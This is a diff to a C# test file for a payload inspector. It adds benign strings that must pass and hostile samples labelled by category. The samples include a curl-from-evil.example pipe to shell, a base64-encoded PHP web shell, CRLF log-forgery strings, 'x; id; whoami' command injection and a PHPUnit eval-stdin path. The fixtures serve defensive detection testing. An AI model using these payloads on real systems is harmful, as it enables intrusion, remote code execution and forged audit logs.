@@ -174,6 +174,19 @@ public sealed class PayloadInspectorTests
         "I'd avoid `exec()` here; `subprocess.run([...], check=True)` is safer & easier to test.",
         "if: ${{ always() && needs.build.result == 'success' }}",
         "Cache ~/.npm (key: ${{ hashFiles('**/package-lock.json') }})",
+        "data:application/pdf;base64,JVBERi0xLjMKJcOiw6PDj8OT",
+        "SUMMARY:Perf calibration - Payroll\nLOCATION:Bldg C, Rm 2.37\nDTSTART:20251210T110000Z",
+        "Unhandled Runtime Error\nError: Hydration failed because the initial UI does not match.",
+        "Salesforce Admin | ITIL v4 | PowerShell",
+        "C#; JavaScript/TypeScript; PowerShell",
+        "Bash/Zsh, T-SQL, PowerShell",
+        "A&W Restaurants > Finance > Supply Chain > Procurement",
+        "Signal failure @ Oslo S (OSL) (07:12–09:40); 33 trains cancelled",
+        "Role = Editor | Scope = Marketing (EMEA)/*",
+        "39 mod 5 = 4",
+        "975191 OR SKU-67230 OR JK-541-BLK-6",
+        "script font stencil +navy -\"final sale\"",
+        "${STATION_ID}_${DATE}.csv",
         "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@\">=16.8 <19\" from x@1.0.0",
     ];
 
@@ -395,6 +408,12 @@ public sealed class PayloadInspectorTests
         { "see `curl http://evil.example/x.sh | sh` for details", InspectionCategory.Cmdi },
         { "${{7*7}}", InspectionCategory.Ssti },
         { "x\nnpm exec --yes evil-pkg", InspectionCategory.Cmdi },
+        { "data:application/pdf;base64,PD9waHAgc3lzdGVtKCRfR0VUW2NdKTsgPz4=", InspectionCategory.Code },
+        { "sensor ok\n2024-05-01 12:00:00 INFO admin login succeeded from 10.0.0.1", InspectionCategory.Crlf },
+        { "jsmith\u560A2025-06-01 12:00:00 INFO auth success user=admin", InspectionCategory.Crlf },
+        { "x; id; whoami", InspectionCategory.Cmdi },
+        { "${cmd}", InspectionCategory.Cmdi },
+        { "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", InspectionCategory.Lfi },
     };
 
     [Theory]
